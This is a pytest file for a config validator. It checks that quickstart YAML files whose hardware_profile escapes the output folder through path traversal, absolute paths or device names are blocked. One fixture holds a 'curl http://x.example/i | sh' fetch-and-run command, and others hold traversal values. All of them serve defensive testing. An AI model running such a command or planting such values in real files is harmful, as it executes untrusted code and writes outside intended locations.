"""``quickstart/*.yaml``: the site's build writes each to ``quickstart/<hardware_profile>.json``
of its API with ``..`` honoured. ``check`` and ``pr`` judge them as a kind of their own
(``REF028``, ``REF029``), and ``render --api-out`` refuses what ``REF028`` reports (real
git; the site's build under Node is the oracle in
:mod:`tests.render.test_quickstart_site_build`)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from validator.cli import main

from .conftest import commit_all, pr_json

CHAT = "models/example-org/Example-Chat-8B.yaml"


def _quickstart(root: Path, name: str, text: str) -> None:
    (root / "quickstart").mkdir(exist_ok=True)
    (root / "quickstart" / name).write_text(text)


@pytest.mark.parametrize(("profile", "says"), [
    ("../models", "is models.json, outside the API's quickstart/ folder"),
    ("../example-org/Example-Chat-8B", "is example-org/Example-Chat-8B.json, outside"),
    ("../../ESCAPED", "leaves the API folder"),
    ("x/h100", "below a folder of its own"),
    ("/tmp/x", "is quickstart/tmp/x.json, below a folder of its own"),
    ("con", "a device name on Windows"),
])
def test_pr_adding_a_quickstart_file_written_elsewhere_is_blocked(
        example_repo: Path, capsys: pytest.CaptureFixture[str], profile: str,
        says: str) -> None:
    base = commit_all(example_repo, "base")
    _quickstart(example_repo, "h100.yaml", "# recipe-check: ignore-file[REF028]\n"
                f'hardware_profile: "{profile}"\ncommand: "curl http://x.example/i | sh"\n')
    head = commit_all(example_repo, "a quickstart")
    code, doc = pr_json(example_repo, base, head, capsys)
    found = [(d["path"], f["rule"], f["line"], f["severity"]) for d in doc["documents"]
             for f in d["findings"] if f["rule"] == "REF028"]
    assert code == 1
    assert found == [("quickstart/h100.yaml", "REF028", 2, "error")]  # the comment is ignored
    message = next(f["message"] for d in doc["documents"] for f in d["findings"]
                   if f["rule"] == "REF028")
    assert says in message


def test_pr_adding_a_quickstart_file_of_a_hardware_id_passes_and_is_checked(
        example_repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    base = commit_all(example_repo, "base")
    _quickstart(example_repo, "h100.yaml", "hardware_profile: h100\ntitle: H100 quickstart\n")
    head = commit_all(example_repo, "a quickstart")
    code, doc = pr_json(example_repo, base, head, capsys)
    assert code == 0
    checked = {d["path"]: d["findings"] for d in doc["documents"]}
    assert checked.get("quickstart/h100.yaml") == []  # checked, clean: not "skipped"


def test_two_quickstart_files_of_one_hardware_and_an_unknown_hardware_are_reported(
        examples_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _quickstart(examples_tree, "a.yaml", "hardware_profile: h100\n")
    _quickstart(examples_tree, "b.yaml", "hardware_profile: H100\n")
    _quickstart(examples_tree, "c.yaml", "title: no profile\n")
    main(["check", "--offline", "--no-cache", "--format", "json", str(examples_tree / CHAT)])
    doc = json.loads(capsys.readouterr().out)
    found = sorted((d["path"], f["rule"], f["severity"].upper()) for d in doc["documents"]
                   for f in d["findings"] if f["rule"] in ("REF028", "REF029"))
    assert found == [("quickstart/a.yaml", "REF028", "ERROR"),  # both write quickstart/h100.json
                     ("quickstart/b.yaml", "REF028", "ERROR"),  # on a case-insensitive disk
                     ("quickstart/b.yaml", "REF029", "WARNING"),  # H100 is no taxonomy id
                     ("quickstart/c.yaml", "REF028", "ERROR")]  # written as undefined.json


def test_check_names_a_quickstart_file_as_a_target(examples_tree: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    _quickstart(examples_tree, "h100.yaml", 'hardware_profile: "../models"\n')
    code = main(["check", "--offline", "--no-cache", str(examples_tree / "quickstart/h100.yaml")])
    out = capsys.readouterr().out
    assert code == 1
    assert "quickstart/h100.yaml:1:19: error REF028 hardware_profile '../models'" in out
